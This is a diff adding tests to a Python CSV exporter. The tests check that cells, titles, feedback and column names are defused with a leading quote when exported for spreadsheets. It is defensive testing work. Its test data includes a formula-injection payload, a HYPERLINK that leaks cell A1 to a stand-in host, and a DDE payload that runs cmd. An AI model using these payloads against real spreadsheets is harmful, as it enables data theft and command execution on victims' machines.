@@ -60,6 +60,35 @@ def give(batch, *answers, **more):
     ]
 
 
+# What a spreadsheet would compute, and how it is written for one.
+FORMULAS = [
+    ("=1+1", "'=1+1"),
+    (
+        '=HYPERLINK("https://elsewhere.example/?"&A1,"x")',
+        '\'=HYPERLINK("https://elsewhere.example/?"&A1,"x")',
+    ),
+    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+    ("-2+3", "'-2+3"),
+    ("@SUM(A1)", "'@SUM(A1)"),
+    ("\t=1", "'\t'=1"),
+    ("\r=1", "'\r'=1"),
+    ("＝1+1", "'＝1+1"),
+    ("-", "'-"),
+    ("a;=1", "a;'=1"),
+    ("a\n=1", "a\n'=1"),
+    # Numbers and what is harmless.
+    ("-5", "-5"),
+    ("+1.5e3", "+1.5e3"),
+    ("-.5", "-.5"),
+    ("5", "5"),
+    ("-5 apples", "'-5 apples"),
+    ("-٥", "'-٥"),
+    ("a=1", "a=1"),
+    ("'=1", "'=1"),
+    ("", ""),
+]
+
+
 def text_of(lines):
     return b"".join(lines).decode()
 
@@ -401,3 +430,44 @@ def test_money_is_written_with_two_decimals(olive, make_batch):
     (line,) = table_of(results_csv(batch, by=olive.actor))
 
     assert line["Reward"] == "$1.50"
+
+
+# For spreadsheets ---------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(("given", "written"), FORMULAS)
+def test_for_a_spreadsheet_no_cell_is_a_formula_and_numbers_stay_numbers(olive, make_batch, given, written):
+    batch = make_batch({"text": given})
+    give(batch, {"sentiment": [given]})
+
+    [line] = csv.DictReader(
+        io.StringIO(
+            text_of(results_csv(batch, by=olive.actor, spreadsheet=True)).removeprefix("\ufeff"), newline=""
+        )
+    )
+    [exact] = table_of(results_csv(batch, by=olive.actor))
+
+    assert line["Input.text"] == line["Answer.sentiment"] == written
+    assert exact["Input.text"] == exact["Answer.sentiment"] == given
+
+
+def test_for_a_spreadsheet_titles_feedback_and_column_names_are_defused_too(olive, make_batch):
+    batch = make_batch({"=a": "x"}, title="=title", answer_fields=["-field"])
+    give(batch, {"-field": ["y"]}, feedback="@you")
+
+    text = text_of(results_csv(batch, by=olive.actor, spreadsheet=True))
+
+    assert text.startswith('\ufeff"HITId"')
+    cells = [cell for line in csv.reader(io.StringIO(text[1:], newline="")) for cell in line]
+    assert {"'=title", "'@you", "Input.=a", "Answer.-field"} <= set(cells)
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
+
+
+def test_for_a_spreadsheet_it_is_streamed_as_well(olive, make_batch):
+    batch = make_batch(*[{"text": "=1"}] * 3)
+    give(batch, *[{"sentiment": ["1"]}] * 3)
+
+    lines = results_csv(batch, by=olive.actor, spreadsheet=True)
+
+    assert [len(next(lines)) for _ in range(2)]
+    assert len(list(lines)) == 3
